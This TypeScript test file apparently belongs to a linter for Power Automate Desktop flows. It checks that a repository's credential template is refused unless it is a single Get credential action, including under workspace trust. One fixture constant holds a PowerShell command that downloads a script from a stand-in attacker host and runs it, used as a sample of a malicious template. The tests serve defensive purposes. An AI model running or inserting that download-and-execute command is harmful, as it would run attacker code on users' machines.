// Trust for repository settings (issue 9): the Get credential template a repository's flowcop.json (or
// the editor setting) supplies goes verbatim into fixed flows, so it must be a single Get credential
// action; anything else is refused with a finding and the built-in template is used. In the editor the
// repository's template follows workspace trust.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, test } from 'node:test';
import { CliIO, runCli } from '../../server/src/cli';
import { analyze } from '../../server/src/findings/analyze';
import { credentialTemplateProblem } from '../../server/src/findings/credential-template';
import { fixesFor } from '../../server/src/fix/fixes';
import { DiskVfs, MemoryVfs } from '../../server/src/load/vfs';
import { chooseCredentialTemplate } from '../../server/src/lsp/trust';
import { tempDir } from './fix-support';

const SCRIPT = "SET ErpPassword TO $'''Winter2025!'''\r\nWebAutomation.PopulateTextField.PopulateTextField BrowserInstance: Browser Control: $'''x''' Text: ErpPassword\r\n";
const EVIL = "System.RunDOSCommand.RunDOSCommand DOSCommandOrApplication: $'''powershell -c \"iwr https://evil.example/p.ps1 | iex\"''' StandardOutput=> ${variable}";
const CUSTOM = "PowerAutomateSecretVariables.GetCredential Credential: $'''${credential}''' Timeout: 7 Credential=> ${variable}";

describe('credentialTemplateProblem', () => {
  test('a single Get credential action is accepted', () => {
    for (const t of [
      "PowerAutomateSecretVariables.GetCredential Credential: $'''${credential}''' Credential=> ${variable}",
      CUSTOM,
      'PowerAutomateSecretVariables.GetCredential Credential: ${credential} Credential=> ${variable}',
      "  PowerAutomateSecretVariables.GetCredential Credential: $'''${credential}''' Credential=> ${variable}\r\n",
    ]) assert.equal(credentialTemplateProblem(t), undefined, t);
  });

  test('any other action, more than one statement, blocks, handlers and comments are refused', () => {
    const get = "PowerAutomateSecretVariables.GetCredential Credential: $'''${credential}''' Credential=> ${variable}";
    const cases: Array<[string, RegExp]> = [
      [EVIL, /Get credential action.*not System\.RunDOSCommand\.RunDOSCommand/],
      ['', /empty/],
      ['GetCredential', /not a valid|Get credential/],
      [`${get}\r\nSystem.RunDOSCommand.RunDOSCommand DOSCommandOrApplication: $'''calc''' StandardOutput=> Out`, /exactly one statement/],
      [`System.RunDOSCommand.RunDOSCommand DOSCommandOrApplication: $'''calc''' StandardOutput=> Out\n${get}`, /exactly one statement/],
      [`IF 1 = 1 THEN\r\n    ${get}\r\nEND`, /Get credential action|exactly one/],
      [`# hello\r\n${get}`, /comments|exactly one/],
      [`SET ${'${variable}'} TO 1`, /Get credential action/],
      [`${get}\r\nON ERROR\r\n    System.RunDOSCommand.RunDOSCommand DOSCommandOrApplication: $'''calc''' StandardOutput=> Out\r\nEND`, /ON ERROR|exactly one|valid/],
      ["PowerAutomateSecretVariables.DeleteEverything Credential=> ${variable}", /Get credential action/],
      ["CyberArk.GetPassword.GetPassword ApplicationId: $'''a''' Password=> ${variable}", /Get credential action/],
      [`FUNCTION Evil GLOBAL\r\n${get}\r\nEND FUNCTION`, /subflows|exactly one|valid/],
    ];
    for (const [t, reason] of cases) assert.match(credentialTemplateProblem(t) ?? 'accepted', reason, JSON.stringify(t));
  });
});

describe('a repository flowcop.json getCredentialTemplate', () => {
  test('that is not a Get credential action is refused with a finding at it; --fix inserts the built-in Get credential', () => {
    const dir = tempDir('tree-template');
    fs.writeFileSync(path.join(dir, 'Enter.robin'), SCRIPT);
    const configText = JSON.stringify({ getCredentialTemplate: EVIL }, null, 2);
    fs.writeFileSync(path.join(dir, 'flowcop.json'), configText);
    const out: string[] = [];
    const io: CliIO = { stdout: s => out.push(s), stderr: () => undefined, cwd: dir, vfs: new DiskVfs(), isTTY: false, env: {}, writeFile: (p, c) => fs.writeFileSync(p, c) };

    assert.equal(runCli(['lint', '.', '--format', 'json'], io), 1);
    const findings: Array<{ ruleId: string; message: string; file: string; line: number; column: number }> = JSON.parse(out.join('')).findings;
    const refused = findings.filter(f => f.file === 'flowcop.json');
    assert.equal(refused.length, 1);
    assert.equal(refused[0].ruleId, 'flowcop/parse-error');
    assert.match(refused[0].message, /getCredentialTemplate refused: the template must be a Get credential action .*System\.RunDOSCommand.*; the built-in Get credential template is used instead/);
    assert.deepEqual([refused[0].line, refused[0].column], [2, configText.split('\n')[1].indexOf('"System') + 1]);

    out.length = 0;
    runCli(['lint', '.', '--fix'], io);
    const fixed = fs.readFileSync(path.join(dir, 'Enter.robin'), 'utf8');
    assert.ok(!/RunDOSCommand|evil\.example/.test(fixed), fixed);
    assert.match(fixed, /PowerAutomateSecretVariables\.GetCredential Credential: \$'''ErpCredential''' Credential=> ErpCredential/);
  });
});

describe('the editor: the template follows workspace trust', () => {
  const files = { '/ws/Enter.robin': SCRIPT, '/ws/flowcop.json': JSON.stringify({ getCredentialTemplate: CUSTOM }) };

  /** The text the Get credential fix inserts, given the template sources the server has. */
  function inserted(setting: string, trusted: boolean): string {
    const analysis = analyze(['/ws'], { vfs: new MemoryVfs(files) });
    const finding = analysis.findings.find(f => f.ruleId === 'pad/plaintext-secret');
    assert.ok(finding, 'the plain-text password is found');
    const choice = chooseCredentialTemplate({ setting, configs: analysis.configs, trusted });
    const fix = fixesFor(finding, { workspace: analysis.workspace, configs: choice.configs, getCredentialTemplate: choice.getCredentialTemplate })
      .find(f => f.kind === 'quickfix');
    assert.ok(fix, 'a Get credential fix');
    return fix.change().files.flatMap(f => f.edits.map(e => e.newText)).join('\n');
  }

  test('trusted: flowcop.json\'s template; untrusted (Restricted Mode): the built-in one', () => {
    assert.match(inserted('', true), /GetCredential Credential: \$'''ErpCredential''' Timeout: 7 Credential=> ErpCredential/);
    const restricted = inserted('', false);
    assert.match(restricted, /PowerAutomateSecretVariables\.GetCredential Credential: \$'''ErpCredential''' Credential=> ErpCredential/);
    assert.ok(!restricted.includes('Timeout: 7'));
  });

  test('the setting must pass the same check: a bad one is ignored, a good one wins', () => {
    const bad = chooseCredentialTemplate({ setting: EVIL, configs: undefined, trusted: true });
    assert.equal(bad.getCredentialTemplate, undefined);
    assert.match(bad.settingProblem ?? '', /Get credential action/);
    assert.ok(!inserted(EVIL, true).includes('RunDOSCommand'));
    assert.ok(!inserted(EVIL, false).includes('RunDOSCommand'));
    const good = "PowerAutomateSecretVariables.GetCredential Credential: $'''${credential}''' Timeout: 9 Credential=> ${variable}";
    assert.match(inserted(good, false), /Timeout: 9/);
  });
});
